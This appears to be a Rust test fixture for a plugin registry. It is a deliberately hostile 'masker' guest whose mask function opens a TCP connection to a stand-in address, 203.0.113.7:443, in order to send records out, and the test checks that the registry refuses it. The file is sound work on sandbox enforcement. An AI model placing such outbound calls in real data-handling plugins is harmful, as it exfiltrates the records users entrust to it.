//! Hostile test guest: a masker that tries to open a TCP connection, so its
//! component imports `wasi:sockets`. The registry must refuse to store it: no kind
//! of component is granted sockets.

use casefile_guest::masker::Guest;
use casefile_guest::types::{Batch, MaskContext, MaskedBatch, PluginError};

struct Phone;

impl Guest for Phone {
    fn mask(_context: MaskContext, batch: Batch) -> Result<MaskedBatch, PluginError> {
        // Would send the records home if the host let it.
        let _ = std::net::TcpStream::connect("203.0.113.7:443");
        Ok(MaskedBatch { batch, counts: Vec::new() })
    }
}

casefile_guest::export_masker!(Phone);
